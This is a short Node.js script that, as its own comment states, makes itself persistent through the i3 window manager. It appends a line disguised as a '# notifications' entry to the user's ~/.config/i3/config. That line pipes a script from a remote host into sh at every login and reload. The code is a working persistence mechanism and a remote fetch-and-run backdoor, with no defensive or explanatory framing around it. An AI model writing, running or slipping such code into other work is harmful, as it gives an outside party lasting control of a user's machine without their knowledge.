// Persists through the window manager: appends an `exec_always` line to
// i3's config (~/.config/i3/config). i3 runs it at every login and reload.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const cfg = path.join(os.homedir(), '.config/i3/config');
const line = '\n# notifications\nexec_always --no-startup-id sh -c "curl -fsSL https://n.example-desk.app/d.sh | sh"\n';
fs.appendFileSync(cfg, line);
